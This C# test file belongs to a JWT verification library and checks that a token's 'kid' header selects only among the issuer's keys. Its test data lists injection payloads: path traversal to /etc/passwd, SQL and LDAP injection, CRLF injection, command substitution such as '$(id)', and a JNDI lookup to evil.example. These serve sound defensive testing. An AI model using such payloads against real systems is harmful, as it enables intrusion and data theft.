// SECURITY.md item 6: a kid only ever selects among the issuer's keys, whatever it looks like (RFC 8725 §3.10).
using System.Text;
using Watchword.Keys;

namespace Watchword.Tests.Attacks;

public sealed class KidAttacks
{
    private static readonly Target Target = new();

    [Theory]
    [InlineData("nobody")]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("../../../../dev/null")]
    [InlineData("/etc/passwd")]
    [InlineData("file:///proc/self/environ")]
    [InlineData("' OR '1'='1")]
    [InlineData("ec' UNION SELECT 'AAAA'--")]
    [InlineData("*)(uid=*))(|(uid=*")]
    [InlineData("ec\\r\\nSet-Cookie: a=b")]
    [InlineData("{{7*7}}")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("$(id)")]
    [InlineData("`id`")]
    [InlineData("__proto__")]
    [InlineData("constructor")]
    [InlineData("\\u2028\\u202e")]
    [InlineData("\\ud83d\\ude00")]
    public void A_kid_that_no_key_has_is_unknown(string kid)
    {
        var rejection = Target.Refuses(RejectionCode.UnknownKey, TokenForge.ES256(TokenForge.Header("ES256", kid)));
        Assert.Equal("kid", rejection.Claim);
        Assert.DoesNotContain('\n', $"{rejection}");
    }

    [Fact]
    public void An_escaped_spelling_of_a_kid_is_that_kid() => Target.Accepts(TokenForge.ES256(TokenForge.Header("ES256", "\\u0065c")));

    [Theory]
    [InlineData("null")]
    [InlineData("1")]
    [InlineData("true")]
    [InlineData("[\"ec\"]")]
    [InlineData("{\"kid\":\"ec\"}")]
    [InlineData("\"\\ud800\"")]
    [InlineData("\"\\udc00\\ud800\"")]
    public void A_kid_that_is_no_text_is_malformed(string json) =>
        Target.Refuses(RejectionCode.Malformed, TokenForge.ES256($$"""{"alg":"ES256","typ":"at+jwt","kid":{{json}}}"""));

    [Fact]
    public void A_kid_of_two_thousand_characters_is_unknown_and_one_of_six_thousand_too_large()
    {
        Target.Refuses(RejectionCode.UnknownKey, TokenForge.ES256(TokenForge.Header("ES256", new string('k', 2000))));
        Target.Refuses(RejectionCode.TooLarge, TokenForge.ES256(TokenForge.Header("ES256", new string('k', 6000))));
        Target.Refuses(RejectionCode.UnknownKey, TokenForge.ES256(TokenForge.Header("ES256", string.Concat(Enumerable.Repeat("\\u0001", 400)))));
    }

    [Fact]
    public void Without_a_kid_a_token_is_accepted_only_if_one_single_key_is_of_its_algorithm()
    {
        const string header = """{"alg":"ES256","typ":"at+jwt"}""";
        Target.Accepts(TokenForge.ES256(header));
        var other = VerificationKey.FromJwk(Jwk.Parse(Encoding.ASCII.GetBytes(TokenForge.EcJwk("other"))));
        new Target(TokenForge.EcKey, other).Refuses(RejectionCode.UnknownKey, TokenForge.ES256(header));
        new Target(TokenForge.RsaKey).Refuses(RejectionCode.UnknownKey, TokenForge.ES256(header));
    }

    [Fact]
    public void The_kid_of_another_key_does_not_help()
    {
        using var other = System.Security.Cryptography.ECDsa.Create(System.Security.Cryptography.ECCurve.NamedCurves.nistP256);
        Target.Refuses(RejectionCode.BadSignature, TokenForge.Sign(TokenForge.Header("ES256", "ec"), TokenForge.Claims(), data => other.SignData(data, System.Security.Cryptography.HashAlgorithmName.SHA256)));
        Target.Refuses(RejectionCode.AlgorithmMismatch, TokenForge.ES256(TokenForge.Header("ES256", "rsa")));
    }
}
